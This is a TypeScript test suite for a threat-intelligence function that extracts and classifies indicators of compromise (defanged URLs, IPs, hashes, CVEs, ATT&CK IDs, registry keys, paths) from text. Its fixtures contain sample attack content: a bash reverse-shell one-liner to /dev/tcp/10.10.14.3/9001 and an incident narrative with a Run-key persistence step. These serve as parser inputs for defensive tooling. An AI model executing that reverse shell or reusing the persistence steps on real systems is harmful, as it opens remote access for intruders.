import { extractIocs, iocTypes, toPlainLists, type IocType, type TextOccurrence } from '../../../../src/intel/iocs';

function lists(text: string) {
  const plain = toPlainLists(extractIocs(text));
  return Object.fromEntries(Object.entries(plain).filter(([, values]) => values.length > 0));
}

describe('extractIocs', () => {
  it('reports one array per type, every type present', () => {
    const report = extractIocs('');
    expect(Object.keys(report)).toEqual([...iocTypes]);
    for (const type of iocTypes) expect(report[type]).toEqual([]);
  });

  it('extracts every type from one realistic paragraph', () => {
    const text =
      'On 2024-10-10 alice@contoso.com opened invoice.zip from hxxps://files.evil[.]com/inv?id=1, which ran ' +
      'C:\\Users\\alice\\AppData\\Local\\Temp\\a.exe (MD5 d41d8cd98f00b204e9800998ecf8427e, SHA1 ' +
      'da39a3ee5e6b4b0d3255bfef95601890afd80709, SHA256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855), ' +
      'set HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run, beaconed to 203.0.113[.]7 and 2001:db8::7, ' +
      'scanned 10.0.0.0/8, exploited CVE-2021-44228 (T1190, T1059.001) and wrote /tmp/.x on a Linux host.';
    expect(lists(text)).toEqual({
      ipv4: ['203.0.113.7'],
      ipv6: ['2001:db8::7'],
      cidr: ['10.0.0.0/8'],
      domain: ['contoso.com', 'files.evil.com'],
      url: ['https://files.evil.com/inv?id=1'],
      email: ['alice@contoso.com'],
      md5: ['d41d8cd98f00b204e9800998ecf8427e'],
      sha1: ['da39a3ee5e6b4b0d3255bfef95601890afd80709'],
      sha256: ['e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'],
      cve: ['CVE-2021-44228'],
      attackTechnique: ['T1190', 'T1059.001'],
      registryKey: ['HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'],
      filePath: ['C:\\Users\\alice\\AppData\\Local\\Temp\\a.exe', '/tmp/.x'],
    });
  });

  it('records where each indicator was written, in the text as given (before refanging)', () => {
    const text = 'first hxxps://evil[.]com/a then evil[.]com again and 1.2.3[.]4';
    const report = extractIocs(text);
    const spans = (type: IocType) =>
      report[type].map((ioc) => ioc.occurrences.map((occurrence) => text.slice(occurrence.start, occurrence.end)));
    expect(spans('url')).toEqual([['hxxps://evil[.]com/a']]);
    expect(spans('domain')).toEqual([['evil[.]com', 'evil[.]com']]);
    expect(spans('ipv4')).toEqual([['1.2.3[.]4']]);
    expect(report.domain[0].occurrences[0]).toEqual({ start: 14, end: 24 } satisfies TextOccurrence);
  });

  it('de-duplicates case-insensitively and keeps the first-seen order', () => {
    expect(lists('b.evil.com, A.EVIL.COM, a.evil.com and b.evil.com').domain).toEqual(['b.evil.com', 'a.evil.com']);
    expect(lists('2001:DB8::1 and 2001:0db8:0:0::1').ipv6).toEqual(['2001:db8::1']);
  });

  it('classifies every address and block', () => {
    const report = extractIocs('8.8.8.8 10.1.2.3 198.51.100.7 fe80::1 2001:db8::5 2606:4700::1111 172.16.0.0/12');
    const classes = (type: IocType) => report[type].map((ioc) => [ioc.value, ioc.classification]);
    expect(classes('ipv4')).toEqual([
      ['8.8.8.8', 'public'],
      ['10.1.2.3', 'private'],
      ['198.51.100.7', 'documentation'],
    ]);
    expect(classes('ipv6')).toEqual([
      ['fe80::1', 'linkLocal'],
      ['2001:db8::5', 'documentation'],
      ['2606:4700::1111', 'public'],
    ]);
    expect(classes('cidr')).toEqual([['172.16.0.0/12', 'private']]);
    expect(report.domain.every((ioc) => ioc.classification === undefined)).toBe(true);
  });

  it('keeps at most maxOccurrences places per indicator', () => {
    const report = extractIocs('1.1.1.1 '.repeat(10), { maxOccurrences: 3 });
    expect(report.ipv4[0].occurrences).toHaveLength(3);
    expect(extractIocs('1.1.1.1 '.repeat(150)).ipv4[0].occurrences).toHaveLength(100);
  });

  it('lets the caller reject technique IDs that do not exist', () => {
    const known = new Set(['T1059.001']);
    const report = extractIocs('T1059.001 and T1059.099', { isKnownTechnique: (id) => known.has(id) });
    expect(report.attackTechnique.map((ioc) => ioc.value)).toEqual(['T1059.001']);
  });

  it('canonicalises technique IDs and CVE IDs', () => {
    expect(lists('t1059/001, T1003_001 and cve‑2021‑26855')).toEqual({
      attackTechnique: ['T1059.001', 'T1003.001'],
      cve: ['CVE-2021-26855'],
    });
  });

  it('follows a URL nested in another (open redirects) and lists both hosts', () => {
    expect(lists('https://evil.com/r?u=https://other.org/y')).toEqual({
      domain: ['evil.com', 'other.org'],
      url: ['https://evil.com/r?u=https://other.org/y', 'https://other.org/y'],
    });
  });

  it('takes the host of a UNC path and of /dev/tcp as indicators', () => {
    expect(lists('\\\\files.evil.com\\share\\a.dll and bash -i >& /dev/tcp/10.10.14.3/9001')).toEqual({
      ipv4: ['10.10.14.3'],
      domain: ['files.evil.com'],
      filePath: ['\\\\files.evil.com\\share\\a.dll', '/dev/tcp/10.10.14.3/9001'],
    });
  });

  it.each([
    ['a file name', 'invoice.pdf setup.py README.md notes.one'],
    ['a version', 'version 10.0.19041.1, build 1.0.0.0, Chrome/120.0.0.0'],
    ['an IP fragment', '256.1.1.1 010.001.000.001 1.2.3.4.5'],
    ['a hex run of the wrong length', 'd41d8cd98f00b204e9800998ecf8427ea'],
    ['a placeholder digest', '0000000000000000000000000000000000000000'],
    ['code', '[System.Net.WebClient]::new() user.name com.microsoft.office'],
    ['a time or MAC address', '12:30:45 00:1a:2b:3c:4d:5e'],
    ['a command switch', 'cmd.exe /c whoami /all'],
    ['an internal host name', 'dc01.contoso.local'],
  ])('does not take %s for an indicator', (_kind, text) => {
    expect(lists(text)).toEqual({});
  });

  it('never lets an indicator swallow the punctuation around it', () => {
    expect(lists('(see https://evil.com/a). "http://evil.net/b", <https://evil.org/c>').url).toEqual([
      'https://evil.com/a',
      'http://evil.net/b',
      'https://evil.org/c',
    ]);
  });

  it.each([
    'a.',
    '1.',
    ':a',
    'C:\\a',
    'C:\\a b',
    '\\\\a',
    'HKLM\\a b ',
    '/tmp/a',
    'http://a.com/',
    'a.a@',
    '[.]',
    'a\\.',
    '0',
    'f:f:',
    '"C:\\a ',
    'T1059.',
    '\\\\a\\b c ',
    ' at a.b',
  ])('stays linear on 200 KB of %j', (unit) => {
    const input = unit.repeat(Math.ceil(200_000 / unit.length));
    const started = Date.now();
    extractIocs(input);
    expect(Date.now() - started).toBeLessThan(2000);
  });
});
